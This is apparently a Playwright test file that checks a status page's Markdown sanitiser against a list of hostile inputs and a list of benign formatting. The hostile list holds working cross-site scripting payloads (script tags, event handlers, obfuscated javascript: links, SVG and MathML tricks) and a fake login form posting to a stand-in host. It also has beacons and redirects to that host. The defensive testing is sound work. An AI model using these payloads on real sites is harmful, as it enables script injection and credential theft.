import { describe, expect, test } from 'vitest'
import type { Page } from 'playwright'
import { buildData, buildIncident, buildUpdate } from '../support/builders'
import { inCase } from '../support/browser/inCase'
import { openStatusPage } from '../support/browser/statusPage'

// In a real browser, since the sanitiser is only as good as the parser that it works on; each text is an update of one incident.
const NOW = Date.parse('2026-03-10T12:00:00Z')
const incident = buildIncident({ beganAt: '2026-03-10T10:00:00Z', endedAt: null, description: 'The description' })
const ALLOWED_ATTRIBUTES = ['align', 'href', 'rel', 'start', 'target', 'title']
const ALLOWED_TAGS = 'a b blockquote br code del em hr i li ol p pre s strong sub sup table tbody td th thead tr ul'.split(' ')

const HOSTILE: readonly (readonly [name: string, text: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in odd case', '<ScRiPt src=//evil.test></sCrIpT>'],
  ['a script that is cut in two', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['an unclosed script', 'text <script>alert(1)'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['an image of a third party', '![pixel](https://a.test/pixel.gif)'],
  ['an inline image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['a handler on an allowed tag', '<p onclick="alert(1)" onmouseover=alert(1)>text</p>'],
  ['a handler without spaces', '<a/href="https://a.test"/onfocus=alert(1)/autofocus>x</a>'],
  ['a javascript link', '[x](javascript:alert(1))'],
  ['a javascript link in HTML', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript link with entities', '<a href="java&#x73;cript&colon;alert(1)">x</a>'],
  ['a javascript link with a tab and a line break', '<a href="java\tscr\nipt:alert(1)">x</a>'],
  ['a javascript link with a leading control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['a javascript link by reference', '[x][1]\n\n[1]: JaVaScRiPt:alert(1)'],
  ['a javascript link in angle brackets', '<javascript:alert(1)>'],
  ['a vbscript link', '[x](vbscript:msgbox(1))'],
  ['a data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['a file link', '[x](file:///etc/passwd)'],
  ['a link without its own scheme', '<a href="//evil.test">x</a>'],
  ['a drawing with a script', '<svg><script>alert(1)</script></svg>'],
  ['a drawing with a handler', '<svg onload=alert(1)><circle r=9 /></svg>'],
  ['a drawing with a link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a foreign object', '<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>'],
  ['a formula', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'],
  ['a style sheet', '<style>* { background: url(https://evil.test) }</style>'],
  ['a style', '<p style="position:fixed;inset:0;background:url(https://evil.test)">x</p>'],
  ['a class or an id of ours', '<p id="content" class="banner" name="content">x</p>'],
  ['a frame', '<iframe src="https://evil.test" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
  ['a form', '<form action="https://evil.test"><input name=password><button>Log in</button></form>'],
  ['a base', '<base href="https://evil.test/">'],
  ['a redirection', '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a comment that hides one', '<!--><script>alert(1)</script>-->'],
  ['nesting', '<table><tr><td><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript></td></tr></table>'],
  ['what is no code', '```html\n</code></pre><script>alert(1)</script>\n```'],
  ['what is no inline code', '`</code><img src=x onerror=alert(1)>`'],
  ['a heading in HTML', '<h1>All components operational</h1>'],
  ['data and aria attributes', '<p data-testid="banner" aria-label="All components operational" role="status">x</p>'],
  ['a link that keeps a window', '<a href="https://a.test" target="_self" rel="opener" download ping="https://evil.test">x</a>'],
]

const ALLOWED: readonly (readonly [text: string, selector: string, content: string])[] = [
  ['**bold** and *emphasis*', 'strong', 'bold'],
  ['~~gone~~', 'del', 'gone'],
  ['`openstack volume show`', 'code', 'openstack volume show'],
  ['```\nline one\nline two\n```', 'pre code', 'line one\nline two'],
  ['- one\n- two', 'ul > li + li', 'two'],
  ['3. three\n4. four', 'ol[start="3"] > li', 'three'],
  ['> a quotation', 'blockquote', 'a quotation'],
  ['## A *heading*', 'p > strong', 'A heading'],
  ['| a | b |\n| - | -: |\n| 1 | 2 |', 'td[align="right"]', '2'],
  ['H<sub>2</sub>O', 'sub', '2'],
  ['[help](https://help.test "Help")', 'a[href="https://help.test"][title="Help"]', 'help'],
  ['[write](mailto:help@help.test)', 'a[href="mailto:help@help.test"]', 'write'],
  ['https://help.test/a?b=c', 'a[href="https://help.test/a?b=c"]', 'https://help.test/a?b=c'],
  ['one\ntwo', 'p:has(br)', 'one\ntwo'],
  ['<u>under</u> and <font color=red>red</font>', 'p', 'under and red'],
  ['latency < 5 ms && loss > 0', 'p', 'latency < 5 ms && loss > 0'],
]

/** The text of an update: what the page makes of it, without its own frame. */
const textOf = (page: Page, order: number) =>
  page
    .getByRole('listitem')
    .filter({ has: page.getByRole('heading', { name: `Update ${order}`, exact: true }) })
    .getByTestId('markdown')

/** The page of an incident whose updates have these texts, rendered; `textOf` finds each again. */
async function openWith(texts: readonly string[], policy?: 'header') {
  const updates = texts.map((description, order) => buildUpdate({ order, displayName: `Update ${order}`, description }))
  const data = buildData({ incidents: [incident], updates: { [incident.id]: updates } })
  const { page, expectProblem } = await openStatusPage({
    now: NOW,
    path: `incidents/${incident.id}`,
    server: { data },
    ...(policy && { policy }),
  })
  // The sanitiser parses what it takes away, apart from the page, and that is where it is reported.
  if (policy) expectProblem(/policy violation: |Content Security Policy|TrustedScript/)
  await textOf(page, 0).waitFor({ state: 'attached' })
  await page.waitForLoadState('networkidle')
  return page
}

interface Found {
  readonly tag: string
  readonly attributes: readonly string[]
  readonly href: string | null
}
const elementsOf = (page: Page, order: number) =>
  textOf(page, order).evaluate(text =>
    [...text.querySelectorAll('*')].map((element): Found => ({
      tag: element.localName,
      attributes: [...element.attributes].map(({ name }) => name),
      href: element.getAttribute('href'),
    })),
  )

async function expectNothingThrough(page: Page) {
  let links = 0
  for (const [order, [name]] of HOSTILE.entries()) {
    for (const { tag, attributes, href } of await elementsOf(page, order)) {
      expect(ALLOWED_TAGS, name).toContain(tag)
      // The page itself lets what scrolls be reached by keyboard.
      const own = tag === 'pre' || tag === 'table' ? ['tabindex'] : []
      expect([...ALLOWED_ATTRIBUTES, ...own], name).toEqual(expect.arrayContaining([...attributes]))
      if (href !== null) expect(href, name).toMatch(/^https:\/\/a\.test/)
      if (href !== null) links++
    }
  }
  // The two whose address is sound are still links, and a picture, which nobody asks its host for, has become one.
  expect(links).toBe(3)
}

/** Of the texts behind the hostile ones. */
async function expectKept(page: Page) {
  for (const [index, [text, selector, content]] of ALLOWED.entries()) {
    const found = textOf(page, HOSTILE.length + index)
      .locator(selector)
      .first()
    expect((await inCase(text, found.innerText({ timeout: 2_000 }))).trim(), text).toBe(content)
  }
}

describe('Markdown', () => {
  test.each([
    ['', undefined],
    [', under a strict policy too', 'header'],
  ] as const)(
    'keeps what a status text needs, and lets nothing through that runs, asks another host or looks like the page%s',
    async (_, policy) => {
      const page = await openWith([...HOSTILE.map(([, text]) => text), ...ALLOWED.map(([text]) => text)], policy)
      await expectNothingThrough(page)
      expect(await page.getByRole('heading', { name: /^Update \d+$/ }).count()).toBe(HOSTILE.length + ALLOWED.length)
      await expectKept(page)
    },
  )
})
